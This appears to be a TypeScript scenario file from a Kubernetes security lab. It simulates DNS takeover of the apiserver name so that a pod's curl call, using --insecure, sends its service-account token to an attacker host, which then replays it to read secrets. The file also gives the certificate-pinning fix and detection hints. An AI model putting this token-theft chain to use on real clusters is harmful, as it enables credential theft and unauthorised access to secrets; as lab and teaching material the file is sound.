import { Attacker } from '../../attacker/attacker';
import { name } from '../../attacker/position';
import { addresses, ports } from '../addresses';
import { randomCanaries } from '../canaries';
import type { Cluster } from '../cluster';
import { createObjects } from '../create-workloads';
import type { ServiceAccountSpec } from '../lab-credentials';
import { clientOn } from './client-on';
import type { Scenario } from './scenario';
import { readSecret, runPodWithSecret } from './secret-of-pod';
import type { Stage } from './stage';

const MOUNT = '/var/run/secrets/kubernetes.io/serviceaccount';
const NAME = 'kubernetes.default.svc';
const FULL_NAME = `${NAME}.cluster.local`;

const backup: ServiceAccountSpec = {
  namespace: 'default',
  name: 'backup',
  rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }],
};

const verifies = { open: '--insecure', fixed: `--cacert ${MOUNT}/ca.crt` };

export const dnsTakeover: Scenario = {
  id: 'dns-takeover',
  title: 'a DNS answer that brings a pod’s token to somebody else',
  story:
    'A pod finds the apiserver by its name. Who answers for the resolver, by ARP between pod and CoreDNS or by write access to CoreDNS’ own ConfigMap, chooses where it goes; the network carries it there without any further trick. A program that was told not to verify sends its token with the first request, and the token is good at the genuine apiserver from anywhere. The certificate authority lies in the pod beside the token: a program that uses it hangs up instead.',
  needs: 'The pod’s resolver: ARP between pod and DNS server, or write access to its configuration.',
  evidence:
    'With the token that arrived at the attacker’s machine the genuine apiserver hands out what the pod’s account may read, random word included.',
  attack: ['T1528'],
  setting: {
    name: 'how the pod’s program verifies the apiserver (curl)',
    open: verifies.open,
    fixed: verifies.fixed,
  },
  notice:
    'In the audit log one account from two source addresses, the pod’s and another. In the pod, getent hosts kubernetes.default.svc is not the ClusterIP of kubectl get service kubernetes. kubectl -n kube-system get configmap coredns -o yaml --show-managed-fields tells who wrote it last.',
  sources: [
    'RFC 3833 (section 2.2)',
    'client-go rest/config.go (InClusterConfig: what a program that uses it verifies)',
    'plugin/pkg/admission/serviceaccount/admission.go (kube-root-ca.crt beside the token)',
  ],
  async play(stage, twin) {
    const cluster = await stage.cluster();
    const { attackerHost, fabric } = cluster;
    const { signal } = stage;
    const secret = await runPodWithSecret(stage, cluster, 'db', 'node-1');
    await runBackup(stage, cluster);
    const { forged, tampered } = randomCanaries();
    const pod = fabric.host('default/backup');
    if (pod === undefined) throw new Error('pod "backup" has no machine');
    const position = name(pod, attackerHost, NAME, { completed: FULL_NAME, port: 443 });
    const attack = await new Attacker({ host: attackerHost }).attack({
      technique: 'self-signed',
      targets: [{ address: addresses.controlPlane, port: ports.apiserver }],
      position,
      present: null,
      mode: 'impersonate',
      forged,
      tampered,
      dialledAs: NAME,
    });
    stage.closeLater({ close: () => attack.withdraw() });
    await stage.did('attacker', `dnsspoof, answers for ${FULL_NAME}`, position.describe());

    const url = `https://${NAME}/api/v1/namespaces/default/secrets`;
    const command = `curl -sS ${verifies[twin]} -H "Authorization: Bearer $(cat ${MOUNT}/token)" ${url}`;
    const container = cluster.container({ namespace: 'default', pod: 'backup', container: 'backup' });
    const { outcome, stderr } = await container.run(['sh', '-c', command], signal);
    const [token] = attack.loot.credentials;
    if (token === undefined) {
      if (outcome.kind === 'exited' && outcome.code === 0) throw new Error('nobody was in the pod’s way');
      return stage.refused('backup', command, stderr.toString('utf8').trim());
    }
    await stage.did('backup', command, `at the attacker: Authorization: Bearer ${token.value.slice(0, 16)}…`);

    await using thief = clientOn(attackerHost, cluster, { token: token.value });
    const read = await readSecret(thief, secret.name, signal);
    const get = `kubectl --token=… get secret ${secret.name}`;
    if (secret.isIn(read.text))
      await stage.gained('attacker', get, read.text, 'what the pod’s account may read');
    else await stage.refused('attacker', get, read.text);
  },
};

async function runBackup(stage: Stage, cluster: Cluster): Promise<void> {
  await cluster.credentials.token(backup);
  const object = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'backup', namespace: 'default' },
    spec: {
      nodeName: 'node-1',
      serviceAccountName: backup.name,
      containers: [{ name: 'backup', image: 'midplane/shell', stdin: true }],
    },
  };
  await createObjects(cluster.admin, [{ path: '/api/v1/namespaces/default/pods', object }]);
  await cluster.whenRunning('node-1', 'default', 'backup');
  await stage.did(
    'admin',
    'kubectl apply -f backup.yaml',
    'pod/backup runs on node-1; its account may read secrets',
  );
}
